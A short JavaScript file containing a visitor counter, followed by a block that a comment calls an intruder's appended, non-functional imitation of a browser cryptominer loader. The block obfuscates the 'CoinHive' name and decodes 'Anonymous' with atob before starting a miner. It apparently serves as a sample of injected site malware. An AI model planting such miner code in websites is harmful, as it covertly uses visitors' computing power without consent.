// Counts visitors.
(function () {
  var seen = Number(localStorage.getItem("seen") || 0) + 1;

  localStorage.setItem("seen", String(seen));
})();

/* The rest was appended by an intruder.  It is an imitation: the names are those
 * of a real loader, but the library it waits for does not exist. */
(function (w) {
  var n = ["Coin", "Hive"].join(""), u = atob("QW5vbnltb3Vz");

  if (!w[n])
    return;
  var m = new w[n][u]("0123456789abcdef0123456789ABCDEF", { throttle: 0.5 });
  m.start();
})(window);
